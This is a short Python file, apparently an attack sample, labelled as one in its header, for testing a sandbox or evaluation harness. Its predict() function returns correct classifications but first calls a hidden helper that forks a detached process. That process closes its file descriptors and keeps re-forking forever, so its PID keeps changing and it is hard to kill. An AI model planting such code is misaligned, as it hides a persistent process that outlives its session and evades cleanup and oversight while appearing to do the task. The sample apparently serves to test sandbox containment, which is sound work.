# /// attack
# does = "leaves a process in predict that forks and ends at once, for ever, and answers rightly"
# own = {}
# ///
"""Its number is never the same for long: whoever looks first and kills then is too late. It is not faster than who
looks again, and where there is a namespace or a user of its own all are killed in one stroke."""

import functools
import os


@functools.cache
def _hop():
    if os.fork() == 0:
        os.closerange(0, 1000)
        while True:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                continue


def predict(params, x):
    _hop()
    return forward(params, x)[0].argmax(axis=1)
